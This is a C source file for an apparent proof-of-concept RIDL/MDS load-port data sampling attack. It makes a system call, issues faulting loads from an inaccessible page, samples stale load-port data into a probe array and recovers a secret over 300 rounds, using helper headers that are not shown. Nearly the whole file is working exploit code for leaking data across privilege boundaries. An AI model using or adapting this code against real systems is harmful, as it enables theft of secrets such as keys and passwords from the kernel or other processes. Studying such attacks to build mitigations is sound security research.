/*
 * Microarchitectural load port data sampling (van Schaik et al., "RIDL", 2019; Intel, "Microarchi-
 * tectural Data Sampling"): a faulting load of more than eight bytes receives what a load port
 * delivered last. The secret's owner compares 16 bytes at a time from a place that the request names.
 */
#include "buffers.h"
#include "fault.h"

static const uint8_t *denied;

/* A system call, then loads that fault. */
static void call_and_sample(long number, long first, const void *second, long third)
{
	register const uint8_t *address_register __asm__("r9") = denied + line_of(place);
	register const uint8_t *probe_register __asm__("r8") = probe;
	register uint64_t known_register __asm__("r10") = known;

	__asm__ volatile(
		RESUME_AT_9
		"mov %[number], %%rax\n\t"
		"syscall\n\t"
		KEEP_FROM_RETIRING
		FOUR_TIMES(SAMPLE_PORT)
		RESUMED
		: "+d"(third)
		: [number] "r"(number), "D"(first), "S"(second), [address] "r"(address_register),
		  [probe] "r"(probe_register), [known] "r"(known_register), [elsewhere] "r"(elsewhere)
		: "rax", "rcx", "r11", "xmm0", "memory", "cc");
}

static int sample(int index)
{
	aim(index);
	use_secret_by(call_and_sample, place_of_comparison(index));
	return reload_probe(probe);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	open_secret();
	if (options.call)
		errx(2, "expected --service");
	catch_faults();
	calibrate();
	probe = own_probe();
	memset(elsewhere, 1, sizeof(elsewhere));
	denied = mmap(NULL, PAGE_BYTES, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (denied == MAP_FAILED)
		err(1, "mmap");
	recover_in_order(sample, 300);
	return 0;
}
